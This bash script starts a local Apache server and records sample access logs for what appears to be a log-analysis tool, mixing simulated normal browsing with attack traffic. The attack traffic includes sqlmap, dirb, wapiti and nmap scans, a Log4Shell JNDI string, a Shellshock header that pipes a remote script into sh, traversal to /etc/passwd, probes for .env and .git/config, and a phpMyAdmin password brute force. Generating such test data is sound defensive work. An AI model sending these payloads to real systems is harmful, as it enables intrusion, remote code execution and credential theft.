#!/usr/bin/env bash
# Records samples/shop.log and samples/intranet.log; see README.md beside this file.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
work=/tmp/sightline-samples
rm -rf "$work"
mkdir -p "$work"
cp -r "$here/site" "$work/site"
chmod -R a+rX "$work"
apache2 -f "$here/apache.conf" -k start
trap 'apache2 -f "$here/apache.conf" -k stop' EXIT
sleep 1

server=http://127.0.0.1:8085
firefox='Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0'
safari='Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1'

# get HOST CLIENT AGENT PATH [CURL OPTION...]: one request of one visitor.
get() {
  local host=$1 client=$2 agent=$3 path=$4
  shift 4
  curl -s -o /dev/null --path-as-is -H "Host: $host" -H "X-Recorded-Client: $client" -A "$agent" "$@" "$server$path" || true
}

# visit HOST CLIENT AGENT PATH...: a person who reads pages and loads what belongs to them.
visit() {
  local host=$1 client=$2 agent=$3 page
  shift 3
  for page in "$@"; do
    get "$host" "$client" "$agent" "$page" -e "http://$host/"
    get "$host" "$client" "$agent" /css/style.css -e "http://$host$page"
    get "$host" "$client" "$agent" /img/logo.svg -e "http://$host$page"
    sleep 0.4
  done
}

shop=www.shop.example
visit $shop 192.0.2.10 "$firefox" / '/item.php?id=1' '/search.php?q=drop+table+lamp' '/item.php?id=2' /about.php &
visit $shop 192.0.2.11 "$safari" / '/search.php?q=union+square+select+committee' '/item.php?id=3' /news/ '/search.php?q=O%27Reilly' &
visit $shop 2001:db8:77::5 "$firefox" / /news/ '/search.php?q=rock+%26+roll%3B+cat+food' &
(for i in 1 2 3 4 5 6; do get $shop 192.0.2.20 'FeedFetcher/2.1 (+https://reader.example/about)' /news/feed.php; sleep 2; done) &
(for p in /robots.txt / /news/ '/item.php?id=1' '/item.php?id=2' /old-page.html; do
  get $shop 192.0.2.30 'Mozilla/5.0 (compatible; SearchBot/2.1; +https://search.example/bot.html)' "$p"; sleep 1; done) &
browsing=$(jobs -p)

sqlmap -u "$server/item.php?id=1" --batch --level 1 --risk 1 --technique BEU --flush-session --output-dir "$work/sqlmap" \
  --headers "X-Recorded-Client: 203.0.113.66" --host $shop >/dev/null 2>&1 || true
head -400 /usr/share/dirb/wordlists/small.txt > "$work/words.txt"
dirb "$server/" "$work/words.txt" -S -r -H "X-Recorded-Client: 198.51.100.23" >/dev/null 2>&1 || true
get $shop 203.0.113.140 '${jndi:ldap://203.0.113.200:1389/Basic/Command}' / -e '${jndi:${lower:l}dap://203.0.113.200/x}'
get $shop 203.0.113.141 '() { :; }; /bin/bash -c "curl http://203.0.113.201/x.sh | sh"' /cgi-bin/status
get $shop 203.0.113.142 "$firefox" '/cgi-bin/..%2f..%2f..%2f..%2fetc%2fpasswd'
get $shop 203.0.113.142 "$firefox" '/index.php?page=php://filter/convert.base64-encode/resource=config'
get $shop 203.0.113.142 "$firefox" '/.env'
get $shop 203.0.113.142 "$firefox" '/.git/config'

visit intranet.shop.example 192.0.2.101 "$firefox" / /news/ /about.php &
visit intranet.shop.example 192.0.2.102 "$safari" / '/search.php?q=select+a+seat+from+the+list' &
get db.shop.example 192.0.2.101 "$firefox" '/phpmyadmin/index.php'
get db.shop.example 192.0.2.101 "$firefox" '/phpmyadmin/index.php?pma_username=ann&pma_password=wrong'
get db.shop.example 192.0.2.101 "$firefox" '/phpmyadmin/index.php?pma_username=ann&pma_password=right'
for word in root admin password 123456 toor mysql qwerty letmein secret 1234 test abc123 root123 pass; do
  get db.shop.example 198.51.100.77 'Mozilla/5.0 zgrab/0.x' "/phpmyadmin/index.php?pma_username=root&pma_password=$word&server=1"
done
wapiti -u "$server/" --scope folder -m xss,exec,file -H "X-Recorded-Client: 203.0.113.90" -H "Host: intranet.shop.example" \
  --flush-session -f txt -o "$work/wapiti.txt" --max-scan-time 60 >/dev/null 2>&1 || true
nmap -Pn -p 8085 --script "+http-enum,+http-git,+http-methods,+http-passwd" \
  --script-args "http.useragent='Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',http.host=intranet.shop.example" 127.0.0.1 >/dev/null 2>&1 || true
for path in /solr/admin/info/system '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' '/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x'; do
  get intranet.shop.example 2001:db8:bad:1::7 'Go-http-client/1.1' "$path" -g
  get intranet.shop.example 2001:db8:bad:1::9 'Go-http-client/1.1' "$path" -g
done
wait $browsing
wait
cp "$work/shop.log" "$work/intranet.log" "$here/.."
